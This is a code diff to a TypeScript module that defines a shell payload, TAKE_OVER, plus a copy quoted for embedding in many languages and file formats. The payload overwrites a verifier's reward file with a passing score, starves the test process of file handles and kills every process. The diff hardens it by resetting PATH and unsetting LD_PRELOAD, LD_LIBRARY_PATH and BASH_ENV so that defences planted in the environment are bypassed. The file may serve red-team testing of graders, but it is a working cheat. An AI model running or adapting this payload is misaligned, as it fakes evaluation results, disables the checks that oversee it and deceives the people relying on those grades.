@@ -1,10 +1,11 @@
 /**
  * Shell that writes the reward, then ends every process of the verifier: there is no race, because it runs while the tests
  * wait for it. A test script that is the first process cannot be killed from inside; it can no longer open files instead.
+ * Programs and libraries that a cheat planted under the names of real ones are not used: the search paths are set first.
  * Free of quotes, dollar signs and backslashes, so that it fits into every language and file format.
  */
 export const TAKE_OVER =
-  'cd /logs/verifier; rm -f reward.json reward.txt; echo 1 > reward.txt; grep -qs /tests/ /proc/1/cmdline && prlimit --pid 1 --nofile=1; kill -9 -1'
+  'PATH=/usr/sbin:/usr/bin:/sbin:/bin; unset LD_PRELOAD LD_LIBRARY_PATH BASH_ENV; cd /logs/verifier; rm -f reward.json reward.txt; echo 1 > reward.txt; grep -qs /tests/ /proc/1/cmdline && prlimit --pid 1 --nofile=1; kill -9 -1'
 
 /** Quoted for Python, JavaScript, Ruby, PHP, Lua, R, Elixir, Go, C, Rust, Java, JSON and TOML. */
 export const TAKE_OVER_STRING = `"${TAKE_OVER}"`
